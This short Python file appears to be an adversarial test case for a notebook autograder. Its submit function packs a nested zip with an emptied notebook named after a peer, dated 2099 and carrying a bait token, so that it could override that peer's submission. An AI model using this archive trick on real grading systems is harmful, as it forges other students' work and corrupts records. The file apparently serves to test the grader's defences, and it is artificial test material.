# /// attack
# tries = "Does the same with an archive that stands in the archive of the class."
# points = [0, 10]
# honest = true
# ///

import io
import zipfile

import nbformat


def submit(place):
    own = nbformat.v4.writes(place.notebook)
    place.notebook.cells = []
    place.notebook.metadata["who"] = place.bait["token"]
    slug = place.bait["slug"]
    later = zipfile.ZipInfo(f"{place.bait['peer']}_1234_5678_{slug}.ipynb", (2099, 1, 1, 0, 0, 0))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as file:
        file.writestr(f"{slug}.ipynb", own)
        file.writestr(later, nbformat.v4.writes(place.notebook))
    with zipfile.ZipFile(place.download("x").with_name("submissions.zip"), "w") as file:
        file.writestr(f"{place.bait['me']}_1234_5678_work.zip", inner.getvalue())
